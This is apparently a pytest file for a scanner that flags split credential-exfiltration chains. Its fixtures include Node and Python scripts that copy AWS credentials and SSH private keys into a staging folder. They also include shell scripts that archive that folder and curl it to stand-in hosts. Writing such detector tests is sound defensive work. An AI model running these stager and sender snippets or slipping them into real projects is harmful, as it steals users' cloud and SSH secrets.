"""A split chain through a staging folder: one script copies secrets into a folder under names made at
run time (each file by its own name), the folder named from the working directory; another script
archives that folder by its relative path and sends it. The folder carries what went into it."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors

NODE_STAGER = (
    "const fs = require('fs'), os = require('os'), path = require('path');\n"
    "const dest = path.join(process.cwd(), 'out', 'diag');\n"
    "fs.mkdirSync(dest, { recursive: true });\n"
    "for (const f of ['credentials', 'config']) {\n"
    "  const src = path.join(os.homedir(), '.aws', f);\n"
    "  fs.copyFileSync(src, path.join(dest, 'aws-' + f));\n"
    "}\n"
)
PY_STAGER = (
    "import os, shutil\n"
    "stage = os.path.join(os.getcwd(), 'reports', 'env')\n"
    "os.makedirs(stage, exist_ok=True)\n"
    "for name in ('id_ed25519', 'id_ecdsa'):\n"
    "    shutil.copy(os.path.expanduser('~/.ssh/' + name), os.path.join(stage, name + '.txt'))\n"
)


def test_a_node_stager_and_a_shell_sender_of_the_folder(tmp_path: Path) -> None:
    sender = (
        "#!/bin/sh\n"
        "tar -czf /tmp/d.tgz -C out diag\n"
        "curl -s -F pack=@/tmp/d.tgz https://intake.renderfarm-ops.invalid/v1/drop\n"
    )
    files = {"scripts/stage.js": NODE_STAGER, "scripts/send.sh": sender}
    assert ("CREDENTIAL_EXFILTRATION", "scripts/send.sh", 3) in scan_errors(tmp_path, files)


def test_a_python_stager_and_a_zip_of_the_folder_sent_by_curl(tmp_path: Path) -> None:
    sender = "#!/bin/bash\nzip -qr env.zip reports/env\ncurl -s -T env.zip https://files.labsync.invalid/in/\n"
    files = {"scripts/stage.py": PY_STAGER, "scripts/ship.sh": sender}
    assert any(rule == "CREDENTIAL_EXFILTRATION" for rule, _, _ in scan_errors(tmp_path, files))


def test_a_staged_folder_archived_but_kept_on_the_machine_stays_quiet(tmp_path: Path) -> None:
    keeper = '#!/bin/sh\ntar -czf "$HOME/backups/diag.tgz" -C out diag\necho saved\n'
    files = {"scripts/stage.js": NODE_STAGER, "scripts/keep.sh": keeper}
    assert scan_errors(tmp_path, files) == set()


def test_another_folder_sent_while_secrets_were_staged_elsewhere_stays_quiet(tmp_path: Path) -> None:
    sender = (
        "#!/bin/sh\n"
        "tar -czf /tmp/b.tgz -C out builds\n"
        "curl -s -F pack=@/tmp/b.tgz https://intake.renderfarm-ops.invalid/v1/drop\n"
    )
    files = {"scripts/stage.js": NODE_STAGER, "scripts/send.sh": sender}
    assert scan_errors(tmp_path, files) == set()
